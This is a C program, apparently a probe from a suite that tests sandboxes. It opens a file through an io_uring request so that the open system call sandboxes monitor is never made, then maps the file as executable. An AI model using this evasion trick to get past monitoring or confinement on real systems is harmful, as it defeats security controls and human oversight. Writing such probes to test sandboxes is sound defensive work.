/* SPDX-License-Identifier: Apache-2.0 */
/*
 * uringopen FILE: opens FILE by io_uring, without the system call that sandboxes watch, and maps it executable.
 * Exit status 3: this kernel has no io_uring, or it is switched off.
 */
#include "attack.h"
#include <linux/io_uring.h>
#include <sys/syscall.h>

static void *map_ring(int ring, size_t size, off_t offset)
{
	void *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, offset);

	if (memory == MAP_FAILED)
		attack_failed("mmap of the ring");
	return memory;
}

/* Opens for reading by one request on a ring of one entry. Returns the descriptor or minus errno. */
static int open_by_ring(const char *path)
{
	struct io_uring_params parameters = {0};
	int ring = syscall(SYS_io_uring_setup, 1, &parameters);

	if (ring < 0) {
		fprintf(stderr, "unsupported: io_uring_setup: %s\n", strerrorname_np(errno));
		exit(ATTACK_UNSUPPORTED);
	}
	char *submission =
	    map_ring(ring, parameters.sq_off.array + parameters.sq_entries * sizeof(unsigned), IORING_OFF_SQ_RING);
	char *completion = map_ring(ring, parameters.cq_off.cqes + parameters.cq_entries * sizeof(struct io_uring_cqe),
				    IORING_OFF_CQ_RING);
	struct io_uring_sqe *entry = map_ring(ring, parameters.sq_entries * sizeof(*entry), IORING_OFF_SQES);

	entry->opcode = IORING_OP_OPENAT;
	entry->fd = AT_FDCWD;
	entry->addr = (unsigned long)path;
	entry->open_flags = O_RDONLY;
	((unsigned *)(submission + parameters.sq_off.array))[0] = 0;
	__atomic_store_n((unsigned *)(submission + parameters.sq_off.tail), 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
		attack_failed("io_uring_enter");
	if (__atomic_load_n((unsigned *)(completion + parameters.cq_off.tail), __ATOMIC_ACQUIRE) != 1) {
		fputs("broken: no completion\n", stderr);
		exit(ATTACK_BROKEN);
	}
	return ((struct io_uring_cqe *)(completion + parameters.cq_off.cqes))->res;
}

int main(int argc, char **argv)
{
	if (argc != 2)
		attack_usage("uringopen FILE");
	int fd = open_by_ring(argv[1]);

	if (fd < 0) {
		errno = -fd;
		attack_failed("open by io_uring");
	}
	if (mmap(NULL, attack_size(fd), PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED)
		attack_failed("mmap");
	attack_mapped();
}
